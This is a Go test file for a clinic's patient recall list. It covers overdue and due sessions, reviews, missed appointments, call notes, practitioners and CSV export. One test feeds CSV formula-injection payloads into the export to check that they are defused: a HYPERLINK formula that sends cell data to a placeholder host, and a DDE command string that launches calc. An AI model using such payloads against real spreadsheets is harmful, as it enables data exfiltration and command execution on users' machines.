package sqlstore_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"needlepoint/data"
	"needlepoint/data/datatest"
)

// mustTreated gives patient p a series with one session logged and signed
// on day and returns the series.
func mustTreated(t *testing.T, c clinic, p data.Patient, day time.Time) data.TreatmentSeries {
	t.Helper()
	ctx := context.Background()
	mustCreateScreening(t, c.s, data.Screening{PatientID: p.ID, ScreenedOn: day.AddDate(0, 0, -7), RecordedBy: "Dr Amara Okafor"})
	mustConsent(t, c, p.ID, day.AddDate(0, 0, -7))
	ts := data.TreatmentSeries{PatientID: p.ID, Areas: []data.Area{data.AreaCheeks}, StartedOn: day}
	if err := c.s.CreateSeries(ctx, &ts); err != nil {
		t.Fatal(err)
	}
	at := day.Add(14 * time.Hour)
	x := validSession(c, ts.ID)
	x.PerformedAt, x.NumbingApplied, x.NumbingRemoved = at, at.Add(-40*time.Minute), at.Add(-5*time.Minute)
	mustLogSigned(t, c, &x)
	return ts
}

func TestRecall(t *testing.T) {
	ctx := context.Background()
	c := mustClinic(t)
	today := datatest.Now

	due := mustTreated(t, c, c.patient, datatest.Date(2026, 10, 28)) // next due 25 Nov
	overdue := mustPatient(t, c, "Ada", "Lovelace", "+44 7700 900111")
	overdueSeries := mustTreated(t, c, overdue, datatest.Date(2026, 9, 30)) // next due 28 Oct
	reviewed := mustPatient(t, c, "Grace", "Hopper", "+44 7700 900222")
	reviewSeries := mustTreated(t, c, reviewed, datatest.Date(2026, 5, 20)) // review due 20 Nov
	if err := c.s.CompleteSeries(ctx, reviewSeries.ID); err != nil {
		t.Fatal(err)
	}
	missed := mustPatient(t, c, "Mary", "Somerville", "+44 7700 900333")
	noShow := mustBook(t, c, data.Appointment{Kind: data.KindConsultation, PatientID: missed.ID,
		PractitionerID: c.practitioner.ID, Start: time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)})
	if err := c.s.SetStatus(ctx, noShow.ID, noShow.Version, data.StatusNoShow, ""); err != nil {
		t.Fatal(err)
	}
	// Not on the list: a series with its next session weeks away.
	fine := mustPatient(t, c, "Emmy", "Noether", "+44 7700 900444")
	mustTreated(t, c, fine, datatest.Date(2026, 11, 20))

	list, err := c.s.Recall(ctx, today)
	if err != nil {
		t.Fatal(err)
	}
	want := []struct {
		patient  int64
		series   int64
		urgency  int
		reason   string
		sinceDay time.Time
	}{
		{overdue.ID, overdueSeries.ID, 31, "Session 2 of 3 overdue: due 28 Oct 2026", datatest.Date(2026, 10, 28)},
		{reviewed.ID, reviewSeries.ID, 8, "Six-month review due since 20 Nov 2026", datatest.Date(2026, 11, 20)},
		{missed.ID, 0, 4, "Did not attend the consultation on 24 Nov 2026 09:00", datatest.Date(2026, 11, 24)},
		{c.patient.ID, due.ID, 3, "Session 2 of 3 due since 25 Nov 2026", datatest.Date(2026, 11, 25)},
	}
	kinds := []data.RecallKind{data.RecallSessionOverdue, data.RecallReviewDue, data.RecallMissed, data.RecallSessionDue}
	if len(list) != len(want) {
		t.Fatalf("Recall() = %+v, want %d entries", list, len(want))
	}
	for i, w := range want {
		e := list[i]
		if e.PatientID != w.patient || e.SeriesID != w.series || e.Urgency != w.urgency ||
			!strings.HasPrefix(e.Reason, w.reason) || !e.Since.Equal(w.sinceDay) {
			t.Errorf("entry %d = %+v, want %+v", i, e, w)
		}
	}
	for i, e := range list {
		if len(e.Kinds) != 1 || e.Kinds[0] != kinds[i] {
			t.Errorf("entry %d kinds = %v, want %v", i, e.Kinds, kinds[i])
		}
		if want := (data.RecallPractitioner{ID: c.practitioner.ID, Name: c.practitioner.Name}); len(e.Practitioners) != 1 || e.Practitioners[0] != want {
			t.Errorf("entry %d practitioners = %+v, want %+v", i, e.Practitioners, want)
		}
	}
	if e := list[0]; e.Phone != "+44 7700 900111" || !e.ReminderConsent || e.PatientName != "Ada Lovelace" {
		t.Errorf("entry 0 contact = %q %q %v", e.PatientName, e.Phone, e.ReminderConsent)
	}

	t.Run("MarkCalled", func(t *testing.T) {
		c.signIn(c.receptionist)
		if err := c.s.MarkCalled(ctx, overdue.ID, overdueSeries.ID, c.receptionist.ID, "Left a voicemail"); err != nil {
			t.Fatal(err)
		}
		list, err := c.s.Recall(ctx, today)
		if err != nil {
			t.Fatal(err)
		}
		if e := list[0]; e.LastCallNote != "Left a voicemail" || !e.LastCalled.Equal(datatest.Now) {
			t.Errorf("after MarkCalled: %+v", e)
		}
		if e := list[1]; !e.LastCalled.IsZero() {
			t.Errorf("call shown against another entry: %+v", e)
		}
		wantError(t, c.s.MarkCalled(ctx, overdue.ID, due.ID, c.receptionist.ID, ""), data.EINVALID, "another patient")
	})

	t.Run("BookedDropOff", func(t *testing.T) {
		later := time.Date(2026, 12, 3, 10, 0, 0, 0, time.UTC)
		mustBook(t, c, data.Appointment{Kind: data.KindTreatment, PatientID: overdue.ID, SeriesID: overdueSeries.ID,
			PractitionerID: c.practitioner.ID, Start: later})
		mustBook(t, c, data.Appointment{Kind: data.KindReview, PatientID: reviewed.ID,
			PractitionerID: c.practitioner.ID, Start: later.Add(time.Hour)})
		mustBook(t, c, data.Appointment{Kind: data.KindConsultation, PatientID: missed.ID,
			PractitionerID: c.practitioner.ID, Start: later.Add(2 * time.Hour)})
		// A review booked does not take the place of a treatment.
		mustBook(t, c, data.Appointment{Kind: data.KindReview, PatientID: c.patient.ID,
			PractitionerID: c.practitioner.ID, Start: later.Add(3 * time.Hour)})
		list, err := c.s.Recall(ctx, today)
		if err != nil {
			t.Fatal(err)
		}
		if len(list) != 1 || list[0].PatientID != c.patient.ID {
			t.Errorf("Recall() after booking = %+v, want only %s", list, c.patient.FullName())
		}
	})
}

func TestRecallCSV(t *testing.T) {
	list := []data.RecallEntry{{
		PatientID: 1, PatientName: `O'Brien, "Zo"`, Phone: "+44 7700 900123", ReminderConsent: true,
		Reason: "Session 2 of 3 due since 25 Nov 2026, not booked", Since: datatest.Date(2026, 11, 25), Urgency: 3,
		LastCalled: time.Date(2026, 11, 27, 16, 5, 0, 0, time.UTC), LastCallNote: "Said \"call back\"\nafter 5",
	}}
	var buf bytes.Buffer
	if err := data.RecallCSV(&buf, list); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), `"O'Brien, ""Zo""",'+44 7700 900123,yes,`; !strings.Contains(got, want) {
		t.Errorf("CSV =\n%s\nwant it to contain %s", got, want)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("rows = %q, want header and one row", rows)
	}
	want := []string{`O'Brien, "Zo"`, "'+44 7700 900123", "yes", list[0].Reason, "2026-11-25", "3", "2026-11-27 16:05", "Said \"call back\"\nafter 5"}
	for i := range want {
		if rows[1][i] != want[i] {
			t.Errorf("column %s = %q, want %q", rows[0][i], rows[1][i], want[i])
		}
	}
}

// TestRecallReviews: the six-month review of a series ending on the 31st
// falls on the last day of a shorter month, and a review held after the
// last session takes a series off the list while one held before does not.
func TestRecallReviews(t *testing.T) {
	ctx := context.Background()
	c := mustClinic(t)
	complete := func(ts data.TreatmentSeries) {
		t.Helper()
		if err := c.s.CompleteSeries(ctx, ts.ID); err != nil {
			t.Fatal(err)
		}
	}
	monthEnd := mustTreated(t, c, c.patient, datatest.Date(2026, 5, 31)) // review due 30 Nov
	complete(monthEnd)
	held := mustPatient(t, c, "Grace", "Hopper", "+44 7700 900222")
	heldSeries := mustTreated(t, c, held, datatest.Date(2026, 5, 20))
	complete(heldSeries)
	early := mustPatient(t, c, "Ada", "Lovelace", "+44 7700 900111")
	earlySeries := mustTreated(t, c, early, datatest.Date(2026, 5, 20))
	complete(earlySeries)
	attend := func(p data.Patient, at time.Time) {
		t.Helper()
		a := mustBook(t, c, data.Appointment{Kind: data.KindReview, PatientID: p.ID,
			PractitionerID: c.practitioner.ID, Start: at})
		for _, st := range []data.AppointmentStatus{data.StatusCheckedIn, data.StatusCompleted} {
			if err := c.s.SetStatus(ctx, a.ID, a.Version, st, ""); err != nil {
				t.Fatal(err)
			}
			a.Version++
		}
	}
	attend(held, time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC))
	attend(early, time.Date(2026, 5, 19, 9, 0, 0, 0, time.UTC)) // before the series' session

	list, err := c.s.Recall(ctx, datatest.Date(2026, 11, 29))
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != 1 || list[0].SeriesID != earlySeries.ID {
		t.Errorf("Recall(29 Nov) = %+v, want only %s's review", list, early.FullName())
	}
	list, err = c.s.Recall(ctx, datatest.Date(2026, 11, 30))
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != 2 {
		t.Fatalf("Recall(30 Nov) = %+v, want 2 reviews", list)
	}
	if e := list[1]; e.SeriesID != monthEnd.ID || !e.Since.Equal(datatest.Date(2026, 11, 30)) || e.Urgency != 0 {
		t.Errorf("entry 1 = %+v, want the review due 30 Nov, today", e)
	}
}

// TestRecallCalls: a patient with two series due is one entry with both
// reasons, showing the latest call about either; a call about several
// reasons at once belongs to no series; archived patients are never
// listed.
func TestRecallCalls(t *testing.T) {
	ctx := context.Background()
	c := mustClinic(t)
	first := mustTreated(t, c, c.patient, datatest.Date(2026, 9, 30))
	second := mustTreated(t, c, c.patient, datatest.Date(2026, 10, 7))
	gone := mustPatient(t, c, "Mary", "Somerville", "+44 7700 900333")
	mustTreated(t, c, gone, datatest.Date(2026, 9, 30))
	gone, err := c.s.Patient(ctx, gone.ID)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.s.ArchivePatient(ctx, gone.ID, gone.Version, "Moved abroad"); err != nil {
		t.Fatal(err)
	}
	recall := func() data.RecallEntry {
		t.Helper()
		list, err := c.s.Recall(ctx, datatest.Now)
		if err != nil {
			t.Fatal(err)
		}
		if len(list) != 1 || list[0].PatientID != c.patient.ID {
			t.Fatalf("Recall() = %+v, want %s once", list, c.patient.FullName())
		}
		return list[0]
	}
	c.signIn(c.receptionist)
	for _, call := range []struct {
		series int64
		note   string
	}{{first.ID, "No answer"}, {second.ID, "Will ring back on Monday"}} {
		if err := c.s.MarkCalled(ctx, c.patient.ID, call.series, c.receptionist.ID, call.note); err != nil {
			t.Fatal(err)
		}
		c.s.Now = func() time.Time { return datatest.Now.Add(time.Minute) }
	}
	e := recall()
	if e.SeriesID != 0 || e.LastCallNote != "Will ring back on Monday" {
		t.Errorf("entry = %+v, want no one series and the latest call", e)
	}
	c.s.Now = func() time.Time { return datatest.Now.Add(time.Hour) }
	if err := c.s.MarkCalled(ctx, c.patient.ID, e.SeriesID, c.receptionist.ID, "Booked both"); err != nil {
		t.Fatal(err)
	}
	if e := recall(); e.LastCallNote != "Booked both" {
		t.Errorf("after a call about the whole entry: %+v", e)
	}
}

// TestRecallOnePerPatient: a patient with several reasons (two series due,
// a missed appointment) is listed once, by the most urgent reason, with
// every reason, and the count is of patients.
func TestRecallOnePerPatient(t *testing.T) {
	ctx := context.Background()
	c := mustClinic(t)
	older := mustTreated(t, c, c.patient, datatest.Date(2026, 9, 30)) // overdue since 28 Oct
	mustTreated(t, c, c.patient, datatest.Date(2026, 10, 28))         // due since 25 Nov
	missed := mustBook(t, c, data.Appointment{Kind: data.KindConsultation, PatientID: c.patient.ID,
		PractitionerID: c.practitioner.ID, Start: time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)})
	if err := c.s.SetStatus(ctx, missed.ID, missed.Version, data.StatusNoShow, ""); err != nil {
		t.Fatal(err)
	}
	other := mustPatient(t, c, "Ada", "Lovelace", "+44 7700 900111")
	mustTreated(t, c, other, datatest.Date(2026, 10, 14)) // overdue since 11 Nov

	list, err := c.s.Recall(ctx, datatest.Now)
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != 2 {
		t.Fatalf("Recall() = %+v, want 2 patients", list)
	}
	e := list[0]
	if e.PatientID != c.patient.ID || e.Urgency != 31 || !e.Since.Equal(datatest.Date(2026, 10, 28)) || e.SeriesID != 0 {
		t.Errorf("first entry = %+v, want %s by the session overdue since 28 Oct", e, c.patient.FullName())
	}
	reasons := strings.Split(e.Reason, "; ")
	for i, want := range []string{"Session 2 of 3 overdue: due 28 Oct 2026", "Did not attend the consultation on 24 Nov 2026",
		"Session 2 of 3 due since 25 Nov 2026"} {
		if i >= len(reasons) || !strings.HasPrefix(reasons[i], want) {
			t.Errorf("reason %d of %q, want %q", i, e.Reason, want)
		}
	}
	if got, want := e.Kinds, []data.RecallKind{data.RecallSessionOverdue, data.RecallMissed, data.RecallSessionDue}; !slices.Equal(got, want) {
		t.Errorf("kinds = %v, want %v", got, want)
	}
	if got, want := e.Practitioners, []data.RecallPractitioner{{ID: c.practitioner.ID, Name: c.practitioner.Name}}; !slices.Equal(got, want) {
		t.Errorf("practitioners = %+v, want %+v, once", got, want)
	}
	if e := list[1]; e.PatientID != other.ID {
		t.Errorf("second entry = %+v, want %s", e, other.FullName())
	}
	c.signIn(c.receptionist)
	if err := c.s.MarkCalled(ctx, c.patient.ID, older.ID, c.receptionist.ID, "Left a message"); err != nil {
		t.Fatal(err)
	}
	if list, err := c.s.Recall(ctx, datatest.Now); err != nil || len(list) != 2 || list[0].LastCallNote != "Left a message" {
		t.Errorf("after a call about one reason: %+v, %v", list, err)
	}
}

// TestRecallCSVFormulaInjection: a name or note that a spreadsheet would
// run as a formula is exported as text, whatever it starts with.
func TestRecallCSVFormulaInjection(t *testing.T) {
	ctx := context.Background()
	c := mustClinic(t)
	p := datatest.ValidPatient()
	p.FirstName, p.LastName = `=HYPERLINK("http://x.example/?"&A1`, `"Call me")`
	p = mustCreate(t, c.s, p)
	ts := mustTreated(t, c, p, datatest.Date(2026, 10, 28))
	c.signIn(c.receptionist)
	for i, note := range []string{"@SUM(1+1)*cmd|' /C calc'!A0", " =1+1", "-2+3", "+44 7700 900123"} {
		c.s.Now = func() time.Time { return datatest.Now.Add(time.Duration(i) * time.Minute) }
		if err := c.s.MarkCalled(ctx, p.ID, ts.ID, c.receptionist.ID, note); err != nil {
			t.Fatal(err)
		}
		list, err := c.s.Recall(ctx, datatest.Now)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := data.RecallCSV(&buf, list); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("CSV rows = %q, %v", rows, err)
		}
		for i, cell := range rows[1] {
			if trimmed := strings.TrimLeft(cell, " "); trimmed != "" && strings.ContainsRune("=+-@\t\r", rune(trimmed[0])) {
				t.Errorf("column %s = %q, a spreadsheet would run it", rows[0][i], cell)
			}
		}
		if got, want := rows[1][7], "'"+strings.TrimSpace(note); got != want {
			t.Errorf("call note = %q, want %q", got, want)
		}
	}
}

// TestRecallPractitioners: a series not yet treated is with the
// practitioner of its consultation, and a missed appointment with its
// own; a series started without a consultation or session is with nobody.
func TestRecallPractitioners(t *testing.T) {
	ctx := context.Background()
	c := mustClinic(t)
	k := mustConsultation(t, c)
	planned := mustSeries(t, c, data.TreatmentSeries{ConsultationID: k.ID, Areas: []data.Area{data.AreaCheeks},
		StartedOn: datatest.Date(2026, 11, 28)})
	varga := mustPractitioner(t, c, "Dr Ines Varga")
	missed := mustPatient(t, c, "Mary", "Somerville", "+44 7700 900333")
	noShow := mustBook(t, c, data.Appointment{Kind: data.KindConsultation, PatientID: missed.ID,
		PractitionerID: varga.ID, Start: time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)})
	if err := c.s.SetStatus(ctx, noShow.ID, noShow.Version, data.StatusNoShow, ""); err != nil {
		t.Fatal(err)
	}
	alone := mustPatient(t, c, "Emmy", "Noether", "+44 7700 900444")
	ts := data.TreatmentSeries{PatientID: alone.ID, Areas: []data.Area{data.AreaForehead}, StartedOn: datatest.Date(2026, 11, 25)}
	if err := c.s.CreateSeries(ctx, &ts); err != nil {
		t.Fatal(err)
	}

	list, err := c.s.Recall(ctx, datatest.Now)
	if err != nil {
		t.Fatal(err)
	}
	want := map[int64][]data.RecallPractitioner{
		c.patient.ID: {{ID: c.practitioner.ID, Name: c.practitioner.Name}},
		missed.ID:    {{ID: varga.ID, Name: varga.Name}},
		alone.ID:     nil,
	}
	if len(list) != len(want) {
		t.Fatalf("Recall() = %+v, want %d patients", list, len(want))
	}
	for _, e := range list {
		if got := e.Practitioners; !slices.Equal(got, want[e.PatientID]) {
			t.Errorf("%s: practitioners %+v, want %+v", e.PatientName, got, want[e.PatientID])
		}
		if e.PatientID == c.patient.ID && (e.SeriesID != planned.ID || !slices.Equal(e.Kinds, []data.RecallKind{data.RecallSessionDue})) {
			t.Errorf("%s: series %d kinds %v, want series %d, session due", e.PatientName, e.SeriesID, e.Kinds, planned.ID)
		}
	}
}
